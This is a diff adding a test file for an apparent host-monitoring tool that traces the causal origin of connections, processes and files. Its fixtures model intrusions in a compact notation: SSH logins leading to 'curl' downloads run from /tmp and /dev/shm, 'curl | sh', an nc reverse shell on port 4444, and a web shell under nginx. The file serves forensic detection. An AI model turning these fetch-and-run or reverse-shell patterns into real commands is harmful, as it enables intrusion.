@@ -1,0 +1,283 @@
+import { describe, expect, test } from "vitest";
+import { originOf } from "../../../src/core/origin/origin.ts";
+import type { OriginChain, Subject } from "../../../src/core/query/model.ts";
+import { KIND } from "../../../src/core/wire/layout.gen.ts";
+import { by, emptyMonitor, feed, graphFromText, type Told } from "../fixture.ts";
+
+const LOGIN = "sshd listens :22; sshd:22 <- 203.0.113.9:51022; sshd >> sshd#session > bash";
+
+function of(told: Told, what: string): OriginChain {
+  const { monitor } = told;
+  const names = { user: (uid: number): string => (uid === 1001 ? "deploy" : `uid ${uid}`) };
+  const subject: Subject = /:\d+$/.test(what)
+    ? { kind: "connection", id: told.connection(what) }
+    : what.startsWith("/")
+      ? { kind: "file", id: told.file(what) }
+      : { kind: "process", id: told.process(what) };
+  return originOf(monitor, subject, names);
+}
+
+/** The steps of the chain itself, without what stands beside it: "link: title". */
+function chain(origin: OriginChain): readonly string[] {
+  const steps: string[] = [];
+  let at = origin.steps.findIndex((step) => step.target);
+  for (; at >= 0; at = origin.steps[at]?.cause ?? -1) {
+    const step = origin.steps[at];
+    steps.unshift(`${step?.link}: ${step?.title}`);
+  }
+  return steps;
+}
+
+/** Time never runs backward along a chain, and each cause stands before its effect. */
+function checkTime(origin: OriginChain): void {
+  for (const step of origin.steps) {
+    const cause = origin.steps[step.cause];
+    if (cause !== undefined) expect(cause.atNs).toBeLessThanOrEqual(step.atNs);
+  }
+}
+
+describe("the origin of a connection", () => {
+  test("leads through a script and a binary that were written and then run to the remote login", () => {
+    const told = graphFromText(
+      `${LOGIN}; bash > curl(-s http://x/i.sh); curl -> 198.51.100.7:80; curl writes /tmp/.x; bash > sh(/tmp/.x);
+       sh writes /dev/shm/k; sh chmods /dev/shm/k; sh > /dev/shm/k; k -> 192.0.2.77:4444`,
+    );
+    const origin = of(told, "192.0.2.77:4444");
+    expect(origin.rootCause).toBe("Remote login from 203.0.113.9:51022 → curl → sh /tmp/.x → /dev/shm/k");
+    expect(chain(origin)).toEqual([
+      "login: tcp 203.0.113.9:51022 -> 10.0.0.4:22",
+      "accepted: 100 sshd",
+      "spawned: 101 sshd",
+      "spawned: 102 bash",
+      "spawned: 103 curl -s http://x/i.sh",
+      "executed: 104 sh /tmp/.x",
+      "executed: 105 /dev/shm/k",
+      expect.stringContaining("connected: tcp"),
+    ]);
+    expect(origin.steps.map((step) => step.explanation)).toEqual(
+      expect.arrayContaining([
+        "103 curl was connected 0.1 s before",
+        "interpreted /tmp/.x, which 103 curl wrote 0.1 s earlier",
+        "ran /dev/shm/k, which 104 sh wrote 0.2 s earlier",
+        "opened by 105 k",
+      ]),
+    );
+    expect([origin.observedLinks, origin.gaps]).toEqual([origin.links, []]);
+    checkTime(origin);
+  });
+
+  test("of curl | sh is what curl fetched and who typed it", () => {
+    const told = graphFromText(`${LOGIN}; bash > curl | sh; curl -> 198.51.100.7:80; sh -> 192.0.2.77:4444`);
+    const origin = of(told, "192.0.2.77:4444");
+    expect(origin.rootCause).toBe("Remote login from 203.0.113.9:51022 → curl | sh");
+    expect(chain(origin).slice(-3)).toEqual([
+      "spawned: 103 curl",
+      "piped: 104 sh",
+      expect.stringContaining("connected:"),
+    ]);
+    expect(origin.steps.find((step) => step.title.endsWith("-> 198.51.100.7:80"))?.explanation).toMatch(
+      /curl was connected/,
+    );
+    checkTime(origin);
+  });
+
+  test("of a daemon passes the double fork and says who adopted it", () => {
+    const told = graphFromText(`${LOGIN}; bash > daemon >> d2 >> d3; daemon exits; d2 exits; d3 -> 192.0.2.77:4444`);
+    const origin = of(told, "192.0.2.77:4444");
+    expect(chain(origin).map((step) => step.split(":")[0])).toEqual([
+      "login",
+      "accepted",
+      "spawned",
+      "spawned",
+      "spawned",
+      "spawned",
+      "spawned",
+      "connected",
+    ]);
+    expect(origin.steps.map((step) => step.explanation)).toContain(
+      "forked by 104 daemon, which has exited since: adopted by pid 1",
+    );
+  });
+
+  test("of a server on this host is the client that had just asked, as an inference", () => {
+    const told = graphFromText("bash > client; client ~> server; server -> 192.0.2.77:4444");
+    const origin = of(told, "192.0.2.77:4444");
+    expect(chain(origin).slice(-3)).toEqual([
+      "spawned: 101 client",
+      "local socket: 102 server",
+      expect.stringContaining("connected:"),
+    ]);
+    expect(origin.steps.find((step) => step.link === "local socket")).toMatchObject({
+      certainty: "inferred",
+      explanation: "acted 0.1 s after 101 client connected to /run/server.sock",
+    });
+    expect(origin.observedLinks).toBeLessThan(origin.links);
+  });
+
+  test("of a server long after its client asked is not blamed on it", () => {
+    const told = graphFromText("bash > client; client ~> server; +60s; server -> 192.0.2.77:4444");
+    expect(chain(of(told, "192.0.2.77:4444")).join()).not.toContain("client");
+  });
+
+  test("of a web shell is the request", () => {
+    const told = graphFromText(
+      "nginx listens :80; nginx:80 <- 8.8.4.4:999; +30s; nginx:80 <- 203.0.113.9:1234; nginx > sh(-c curl) > curl; curl -> files:8000; curl writes /tmp/x; sh > /tmp/x; x -> 192.0.2.77:4444",
+    );
+    const origin = of(told, "192.0.2.77:4444");
+    expect(origin.rootCause).toBe("Connection from 203.0.113.9:1234 → nginx → sh → curl → /tmp/x");
+    expect(origin.steps.find((step) => step.title.endsWith("127.0.0.1:8000"))?.explanation).toContain("to 103 files");
+  });
+
+  test("that was accepted is where it came from, with its server beside it", () => {
+    const origin = of(graphFromText("nginx:80 <- 203.0.113.9:1234"), "203.0.113.9:1234");
+    expect(origin.rootCause).toBe("Connection from 203.0.113.9:1234");
+    expect(origin.steps.map((step) => step.target)).toEqual([true, false]);
+    expect(origin.steps[1]).toMatchObject({
+      title: "100 nginx",
+      explanation: expect.stringContaining("accepted it on 10.0.0.4:80"),
+    });
+  });
+
+  test("between two processes of this host is the client's", () => {
+    const origin = of(graphFromText("bash > curl; curl -> nginx:8080"), "127.0.0.1:8080");
+    expect(chain(origin).slice(-2)).toEqual(["spawned: 101 curl", expect.stringContaining("connected: tcp 127.0.0.1")]);
+  });
+});
+
+describe("the origin of a process", () => {
+  test("with a socket as standard input is the connection", () => {
+    const origin = of(graphFromText("bash > nc; nc -> 192.0.2.77:4444; nc > sh @ 192.0.2.77:4444; sh > id"), "id");
+    expect(chain(origin)).toContain("stdin: 102 sh");
+    expect(origin.steps.map((step) => step.title)).toContainEqual(expect.stringMatching(/^tcp .* -> 192.0.2.77:4444$/));
+  });
+
+  test("does not include what happened after it began", () => {
+    const told = graphFromText(
+      "nginx listens :80; nginx > worker; nginx:80 <- 203.0.113.9:1234; bash writes /usr/bin/worker",
+    );
+    const origin = of(told, "worker");
+    expect(origin.steps.map((step) => step.title).join()).not.toMatch(/203|bash/);
+    checkTime(origin);
+  });
+
+  test("that runs what a package manager installed is not blamed on the package manager", () => {
+    const told = graphFromText("root > dpkg; dpkg writes /usr/bin/tool; bash > tool");
+    expect(chain(of(told, "tool"))).toEqual(["boundary: 102 bash", "spawned: 103 tool"]);
+  });
+
+  test("that runs a file many wrote says that it was not followed", () => {
+    const told = graphFromText("bash listens :1");
+    for (let i = 0; i < 300; i++) told.go(`bash > w#${i}; w#${i} writes /shared; w#${i} exits`);
+    told.go("bash > /shared");
+    const origin = of(told, "shared");
+    expect(chain(origin).at(-2)).toBe("boundary: 100 bash");
+    expect(origin.gaps).toEqual(["/shared has too many writers to follow"]);
+  });
+
+  test("of a login names the user, of a cron job the scheduler", () => {
+    const told = graphFromText("sshd:22 <- 203.0.113.9:51022; sshd > bash; cron > sh(-c job)");
+    told.story.emit((w) =>
+      w.image({
+        ...told.story.head("bash"),
+        exe: "/usr/bin/bash",
+        argv: ["-bash"],
+        loginUid: 1001,
+        uid: 1001,
+        parentPid: 100,
+        parentStartNs: told.story.actor("sshd").startNs,
+      }),
+    );
+    told.go("bash > id");
+    expect(of(told, "id").rootCause).toBe("Remote login of deploy from 203.0.113.9:51022 → id");
+    expect(of(told, "sh").rootCause).toBe("A cron job → sh");
+  });
+
+  test("of a service and of a container names it", () => {
+    const { monitor, writer } = emptyMonitor();
+    const id = "0123456789abcdef".repeat(4);
+    feed(monitor, writer, 1e9, (w) => {
+      w.image(
+        {
+          ...by(50, 0, -9e9),
+          exe: "/usr/sbin/nginx",
+          argv: ["nginx"],
+          cgroup: 5,
+          cgroupPath: "/system.slice/nginx.service",
+          parentPid: 1,
+          parentStartNs: 7,
+        },
+        KIND.PROCESS,
+      );
+      w.image(
+        { ...by(60, 0, -9e9), exe: "/usr/bin/containerd-shim-runc-v2", argv: ["shim"], parentPid: 1, parentStartNs: 7 },
+        KIND.PROCESS,
+      );
+      w.image(
+        {
+          ...by(61, 0, -8e9),
+          exe: "/app",
+          argv: ["app"],
+          cgroup: 6,
+          cgroupPath: `/docker/${id}`,
+          parentPid: 60,
+          parentStartNs: by(60, 0, -9e9).startNs,
+        },
+        KIND.PROCESS,
+      );
+    });
+    const cause = (pid: number): string =>
+      originOf(monitor, { kind: "process", id: monitor.graph.processes.id(monitor.graph.processes.living(pid)) })
+        .rootCause;
+    expect(cause(50)).toBe("Service nginx.service");
+    expect(cause(61)).toBe("Container 0123456789ab");
+  });
+
+  test("whose pid was used before is its own", () => {
+    const { monitor, writer } = emptyMonitor();
+    feed(monitor, writer, 90e6, (w) => {
+      w.fork({ ...by(10, 5e6, -9e9), childPid: 20, childStartNs: by(20, 0, 5e6).startNs });
+      w.exit(by(20, 6e6, 5e6));
+      w.fork({ ...by(11, 50e6, -9e9), childPid: 20, childStartNs: by(20, 0, 50e6).startNs });
+      w.image({ ...by(20, 51e6, 50e6), exe: "/bin/b", argv: ["b"] });
+    });
+    const origin = originOf(monitor, {
+      kind: "process",
+      id: monitor.graph.processes.id(monitor.graph.processes.living(20)),
+    });
+    expect(origin.steps.map((step) => step.title)).toEqual(["11 [not seen]", "20 b"]);
+    expect(origin.gaps).toEqual(["11 was never seen itself"]);
+  });
+});
+
+describe("the origin of a file", () => {
+  test("is who wrote it last, with what it was copied from beside it", () => {
+    const told = graphFromText(
+      "bash > curl; curl -> 198.51.100.7:80; curl writes /tmp/a; bash > cp; cp reads /tmp/a; cp writes /home/u/b",
+    );
+    const origin = of(told, "/home/u/b");
+    expect(chain(origin)).toEqual(["boundary: 100 bash", "spawned: 102 cp", "wrote: /home/u/b"]);
+    expect(origin.steps.map((step) => step.explanation)).toContainEqual(
+      expect.stringContaining("102 cp read it before"),
+    );
+  });
+
+  test("nobody was seen writing is a gap", () => {
+    const origin = of(graphFromText("bash reads /etc/hosts"), "/etc/hosts");
+    expect(origin.gaps).toEqual(["nobody was seen writing /etc/hosts"]);
+  });
+});
+
+test("what was forgotten is answered with that", () => {
+  const { monitor } = emptyMonitor();
+  expect(originOf(monitor, { kind: "process", id: 12345 })).toMatchObject({
+    steps: [],
+    gaps: ["earlier history forgotten"],
+  });
+});
+
+test("lost events are told as a gap", () => {
+  const told = graphFromText("bash > curl");
+  told.story.emit((w) => w.loss({ timeNs: told.story.nowNs, pid: 0, startNs: 0, kind: KIND.FORK, lost: 3 }));
+  told.go("");
+  expect(of(told, "curl").gaps).toEqual(["3 events were lost"]);
+});
